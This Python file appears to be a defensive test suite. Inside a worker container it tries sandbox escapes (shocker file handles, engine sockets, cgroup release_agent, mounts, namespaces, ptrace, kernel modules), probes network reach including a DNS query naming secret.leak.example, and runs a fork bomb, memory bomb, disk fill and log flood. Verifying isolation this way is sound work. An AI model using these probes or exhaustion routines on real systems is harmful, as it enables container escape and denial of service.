# ruff: noqa: PTH102, PTH108, PTH110, PTH112, PTH116, PTH123, PTH207, PTH208 -- hostile paths and errno, not tidy ones.
"""Every attempt to leave the sandbox, as a hostile job would make it. Runs inside a worker's container, stdlib only.
System calls without a name in libc go by their numbers on x86-64.

`python3 -c SOURCE NAME...` with the targets as JSON in $TARGETS prints {name: what was reached}, empty where it was
held. An attempt that was held has raised OSError or found nothing. Each runs in a process of its own with a deadline.
"""

import ctypes
import errno
import glob
import json
import mmap
import os
import select
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable

TARGETS: dict[str, str] = json.loads(os.environ.get("TARGETS", "{}"))
ATTEMPTS: dict[str, Callable[[], str]] = {}

_QUICK_S = 2.0
_DEADLINE_S = 30
_MIB = 2**20
_libc = ctypes.CDLL(None, use_errno=True)


def attempt(function: Callable[[], str]) -> Callable[[], str]:
    ATTEMPTS[function.__name__] = function
    return function


def _call(name: str, *words: object) -> int:
    """A C function; raises OSError where it returns -1."""
    result = int(getattr(_libc, name)(*words))
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _allowed(name: str, *words: object) -> bool:
    """Whether the kernel refused for another reason than that it is forbidden."""
    try:
        _call(name, *words)
    except OSError as refusal:
        return refusal.errno not in (errno.EPERM, errno.EACCES, errno.ENOSYS)
    return True


def _writable(*patterns: str) -> str:
    """Which of the files can be opened for writing. Nothing is written."""
    found = []
    for path in (path for pattern in patterns for path in glob.glob(pattern, recursive=True)):
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        found.append(path)
    return " ".join(found[:5])


# Files of the host.


@attempt
def host_files() -> str:
    marker = TARGETS["marker"]
    roots = ["", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/fd/*")]
    for root in roots:
        for up in ("", "/../../../../../../.."):
            if os.path.exists(root + up + marker):
                return root + up + marker
    return ""


@attempt
def file_handles() -> str:
    # open_by_handle_at, the "shocker": any file by its inode, over any descriptor of the same file system.
    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 8))

    handle = Handle(8, 1)
    handle.bytes[0] = 2
    folder = os.open("/scratch", os.O_RDONLY)
    return "open_by_handle_at" if _allowed("open_by_handle_at", folder, ctypes.byref(handle), os.O_RDONLY) else ""


@attempt
def engine_socket() -> str:
    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"]
    with open("/proc/net/unix") as listing:
        abstract = [line.split()[-1] for line in listing if line.split()[-1].startswith("@")]
    for path in paths + ["\0" + name[1:] for name in abstract]:
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect(path)
            except OSError:
                continue
            return path.replace("\0", "@")
    return ""


@attempt
def devices() -> str:
    usual = {"null", "zero", "full", "random", "urandom", "tty", "console", "ptmx", "pts", "shm", "mqueue", "fd"}
    usual |= {"stdin", "stdout", "stderr", "core"}
    return " ".join(sorted(set(os.listdir("/dev")) - usual))


@attempt
def device_nodes() -> str:
    for folder in ("/scratch", "/tmp", "/dev", "/dev/shm"):
        for kind, number in ((0o060600, os.makedev(7, 0)), (0o020600, os.makedev(1, 1))):
            try:
                os.mknod(f"{folder}/node-{number}", kind, number)
            except OSError:
                continue
            return folder
    return ""


@attempt
def kernel_files() -> str:
    return _writable(
        "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/hotplug",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sys/vm/*",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/acpi/**",
        "/proc/irq/*/smp_affinity",
        "/proc/bus/pci/**",
        "/sys/kernel/uevent_helper",
        "/sys/power/*",
        "/sys/block/*/uevent",
        "/sys/class/net/*/mtu",
    )


@attempt
def cgroups() -> str:
    return _writable(
        *(f"/sys/fs/cgroup/**/{name}" for name in ("release_agent", "notify_on_release", "cgroup.procs", "tasks")),
        *(f"/sys/fs/cgroup/**/{name}" for name in ("memory.limit_in_bytes", "memory.max", "pids.max", "cpu.max")),
        "/sys/fs/cgroup/**/devices.allow",
    )


@attempt
def kernel_memory() -> str:
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/kmsg", "/sys/kernel/debug", "/proc/keys"):
        try:
            descriptor = os.open(path, os.O_RDONLY)
            if not os.path.isdir(path) and os.read(descriptor, 1):
                return path
        except OSError:
            continue
    with open("/proc/kallsyms") as symbols:
        return "kernel addresses" if any(int(line.split()[0], 16) for line in symbols) else ""


@attempt
def scratch_is_mounted_safely() -> str:
    with open("/proc/self/mounts") as listing:
        mounts = {line.split()[1]: line.split()[3].split(",") for line in listing}
    return " ".join(path for path in ("/scratch", "/tmp") if not {"nosuid", "nodev"} <= set(mounts[path]))


@attempt
def writable_places() -> str:
    known = ("/scratch", "/tmp", "/dev/shm", "/dev/mqueue", "/proc")
    found = []
    for folder, _, _ in os.walk("/"):
        if not folder.startswith(known) and os.access(folder, os.W_OK):
            found.append(folder)
    return " ".join(found[:5])


# Becoming more.


@attempt
def root_user() -> str:
    tries = [("setuid", 0), ("setgid", 0), ("setreuid", 0, 0), ("setresuid", 0, 0, 0), ("chroot", b"/tmp")]
    return " ".join(str(words[0]) for words in tries if _allowed(*words))  # type: ignore[arg-type]


@attempt
def setuid_programs() -> str:
    with open("/proc/self/status") as status:
        facts = dict(line.rstrip().split(":\t", 1) for line in status if ":\t" in line)
    # With no_new_privs set the kernel ignores the bit on every program.
    return "" if facts["NoNewPrivs"] == "1" else "a setuid program would run as its owner"


@attempt
def capabilities() -> str:
    with open("/proc/self/status") as status:
        facts = dict(line.rstrip().split(":\t", 1) for line in status if ":\t" in line)
    names = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")
    return " ".join(name for name in names if int(facts[name], 16))


@attempt
def mount() -> str:
    tries = [
        ("mount", b"none", b"/scratch", b"tmpfs", 0, None),
        ("mount", b"/", b"/tmp", None, 4096, None),
        ("mount", b"none", b"/tmp", b"proc", 0, None),
        ("umount2", b"/sys", 0),
        ("syscall", 430, b"tmpfs", 0),
        ("syscall", 428, -100, b"/", 1),
    ]
    return " ".join(str(words[0]) for words in tries if _allowed(*words))  # type: ignore[arg-type]


@attempt
def namespaces() -> str:
    user, others = 0x10000000, (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x20000000, 0x40000000)
    flags = (user, *others, *(user | flag for flag in others))
    if any(_allowed("unshare", flag) for flag in flags):
        return "unshare"
    for path in glob.glob("/proc/1/ns/*"):
        try:
            descriptor = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        if not path.endswith(("user", "_for_children")) and _allowed("setns", descriptor, 0):
            return path
    return ""


@attempt
def foreign_processes() -> str:
    # Also what ptrace and process_vm_readv could be aimed at: nothing but this container's own.
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as line:
                seen = TARGETS["process"].encode() in line.read()
        except OSError:
            continue
        if seen:
            return path
    return ""


@attempt
def trace() -> str:
    # Seizing, unlike attaching, does not stop whoever it succeeds with.
    seize = 0x4206
    for path in glob.glob("/proc/[0-9]*"):
        number = int(path.rpartition("/")[2])
        try:
            foreign = os.stat(path).st_uid != os.getuid()
        except OSError:
            continue
        if foreign and _allowed("ptrace", seize, number, None, None):
            return path
    return ""


@attempt
def kernel_modules() -> str:
    tries = [("syscall", 175, b"x", 1, b""), ("syscall", 313, 0, b"", 0), ("syscall", 176, b"nothing", 0)]
    tries += [("syscall", 246, 0, 0, None, 0), ("syscall", 320, 0, 0, 0, None, 0)]
    return " ".join(str(words[1]) for words in tries if _allowed(*words))  # type: ignore[arg-type]


@attempt
def keyrings() -> str:
    tries = [
        ("syscall", 250, 0, -3, 1),
        ("syscall", 248, b"user", b"x", b"x", 1, -3),
        ("syscall", 249, b"user", b"x", 0, 0),
    ]
    return " ".join(str(words[1]) for words in tries if _allowed(*words))  # type: ignore[arg-type]


@attempt
def bpf() -> str:
    # bpf, perf_event_open, userfaultfd, fanotify_init, kcmp
    tries = [("syscall", 321, 0, None, 0), ("syscall", 298, None, 0, -1, -1, 0), ("syscall", 323, 0)]
    tries += [("syscall", 300, 0, 0)]
    return " ".join(str(words[1]) for words in tries if _allowed(*words))  # type: ignore[arg-type]


@attempt
def clock() -> str:
    class Time(ctypes.Structure):
        _fields_ = (("seconds", ctypes.c_long), ("nanoseconds", ctypes.c_long))

    now = Time(int(time.time()), 0)
    return "clock_settime" if _allowed("clock_settime", 0, ctypes.byref(now)) else ""


@attempt
def machine() -> str:
    # The magic number of reboot is wrong on purpose: whoever may is told that, and nothing restarts.
    tries = [("reboot", 0), ("sethostname", b"x", 1), ("swapoff", b"/nothing"), ("acct", None)]
    tries += [("syscall", 103, 5, None, 0), ("iopl", 3), ("vhangup",)]
    return " ".join(str(words[0]) for words in tries if _allowed(*words))  # type: ignore[arg-type]


# The network.


@attempt
def raw_sockets() -> str:
    for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
        try:
            socket.socket(family, kind, socket.IPPROTO_ICMP).close()
        except OSError:
            continue
        return str(family)
    return ""


def _tcp(host: str) -> str:
    try:
        with socket.create_connection((host, int(TARGETS["port"])), _QUICK_S) as client:
            return f"{host}: {client.recv(20).decode()}"
    except OSError:
        return ""


def _udp(host: str, port: int, question: bytes = b"hello") -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(_QUICK_S)
        try:
            client.sendto(question, (host, port))
            return f"{host}: {len(client.recv(512))} bytes"
        except OSError:
            return ""


def _ping(host: str) -> str:
    try:
        client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except OSError:
        return ""
    with client:
        client.settimeout(_QUICK_S)
        try:
            client.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1), (host, 0))
            return f"{host}: {len(client.recv(512))} bytes"
        except OSError:
            return ""


def _look_up(server: str) -> str:
    question = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + b"\6secret\4leak\7example\0" + struct.pack("!HH", 1, 1)
    return _udp(server, 53, question)


@attempt
def host_tcp() -> str:
    return _tcp(TARGETS["host"])


@attempt
def host_udp() -> str:
    return _udp(TARGETS["host"], int(TARGETS["port"]))


@attempt
def host_icmp() -> str:
    return _ping(TARGETS["host"])


@attempt
def lan_tcp() -> str:
    return _tcp(TARGETS["lan"])


@attempt
def lan_udp() -> str:
    return _udp(TARGETS["lan"], int(TARGETS["port"]))


@attempt
def lan_icmp() -> str:
    return _ping(TARGETS["lan"])


@attempt
def lan_dns() -> str:
    return _look_up(TARGETS["lan"])


@attempt
def metadata_tcp() -> str:
    return _tcp(TARGETS["metadata"])


@attempt
def internet_tcp() -> str:
    return _tcp(TARGETS["internet"])


@attempt
def internet_udp() -> str:
    return _udp(TARGETS["internet"], int(TARGETS["port"]))


@attempt
def internet_dns() -> str:
    return _look_up(TARGETS["internet"])


@attempt
def relay_udp() -> str:
    # The one address that the tunnel may send to is not the worker's to use.
    return _udp(TARGETS["relay"], int(TARGETS["port"]))


@attempt
def tunnel_port() -> str:
    # As if Nebula had died and its port were free.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        client.settimeout(_QUICK_S)
        try:
            client.bind(("0.0.0.0", int(TARGETS["tunnel_port"])))
            client.sendto(b"hello", (TARGETS["relay"], int(TARGETS["port"])))
            return f"{len(client.recv(512))} bytes"
        except OSError:
            return ""


@attempt
def names() -> str:
    try:
        return str(socket.getaddrinfo("secret.leak.example", 80))
    except OSError:
        return ""


@attempt
def ipv6() -> str:
    with open("/proc/net/if_inet6") as listing:
        addresses = [line.split()[0] for line in listing if line.split()[0] != "0" * 31 + "1"]
    return " ".join(addresses)


@attempt
def other_lease() -> str:
    return _tcp(TARGETS["other"]) or _ping(TARGETS["other"])


@attempt
def packet_filter() -> str:
    # Rules can only be read or changed over netlink with CAP_NET_ADMIN; so can addresses and routes.
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as netfilter:
        head = struct.pack("=IHHII", 20, (10 << 8) | 1, 0x301 | 4, 1, 0)
        netfilter.settimeout(_QUICK_S)
        netfilter.send(head + b"\0\0\0\0")
        answer = netfilter.recv(4096)
        code = struct.unpack_from("=i", answer, 16)[0] if struct.unpack_from("=H", answer, 4)[0] == 2 else 0
        return "" if code in (-errno.EPERM, -errno.EACCES) else f"nftables answered {code}"


# Using everything up. These are asked for one by one: each leaves the container the worse for it.


def fork_bomb() -> str:
    children: list[int] = []
    try:
        for _ in range(int(TARGETS["processes"]) + 50):
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    except OSError:
        return ""
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
    return f"{len(children)} processes"


def memory_bomb() -> str:
    whole = (int(TARGETS["memory_mib"]) + 128) * _MIB
    populate = 0x8000
    with mmap.mmap(-1, whole, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | populate) as held:
        return f"{len(held) // _MIB} MiB"


def disk_fill() -> str:
    limit, taken = int(TARGETS["disk_mib"]), 0
    try:
        for number in range(2 * limit // 64):
            with open(f"/scratch/fill-{number}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 64 * _MIB)
                taken += 64
    except OSError as full:
        return "" if full.errno == errno.ENOSPC and taken <= limit else str(full)
    return f"{taken} MiB"


def memory_files() -> str:
    # /tmp and /dev/shm are memory; nothing there may outgrow what they were given.
    for folder, most in (("/tmp", 256), ("/dev/shm", 64)):
        taken = 0
        try:
            with open(f"{folder}/fill", "wb") as file:
                while taken <= most:
                    file.write(b"x" * 8 * _MIB)
                    file.flush()
                    taken += 8
        except OSError:
            continue
        finally:
            os.unlink(f"{folder}/fill")
        return f"{taken} MiB in {folder}"
    return ""


def file_count() -> str:
    most = 200_000
    try:
        for number in range(most):
            if number % 4096 == 0:
                folder = f"/scratch/many-{number}"
                os.mkdir(folder)
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
    except OSError as full:
        return "" if full.errno == errno.ENOSPC else str(full)
    return f"{most} files"


def log_flood() -> str:
    line = b"x" * 1023 + b"\n"
    with open("/proc/1/fd/1", "wb", buffering=0) as log:
        for _ in range(60 * 1024):
            log.write(line)
    return ""


HUNGRY: dict[str, Callable[[], str]] = {
    function.__name__: function for function in (memory_files, file_count, disk_fill, log_flood, fork_bomb, memory_bomb)
}


def _begin(function: Callable[[], str]) -> tuple[int, int]:
    """A child that makes the attempt, and where it says what it reached."""
    reads, writes = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reads)
        signal.alarm(_DEADLINE_S)
        try:
            said = function()
        except OSError:
            said = ""
        except BaseException as broken:
            said = f"the attempt itself failed: {type(broken).__name__}: {broken}"
        os.write(writes, said.encode()[:2000])
        os._exit(0)
    os.close(writes)
    return child, reads


def _result(child: int, reads: int) -> str:
    """What it reached; empty also where it was killed for its pains."""
    select.select([reads], [], [], _DEADLINE_S + 5)
    said = os.read(reads, 4096).decode(errors="replace")
    os.close(reads)
    _, status = os.waitpid(child, 0)
    return "its deadline passed" if os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGALRM else said


def main(names: list[str]) -> None:
    known = ATTEMPTS | HUNGRY
    quiet = {name: _begin(known[name]) for name in names if name in ATTEMPTS}
    found = {name: _result(*begun) for name, begun in quiet.items()}
    found |= {name: _result(*_begin(known[name])) for name in names if name in HUNGRY}
    print(json.dumps(found))


if __name__ == "__main__":
    main(sys.argv[1:])
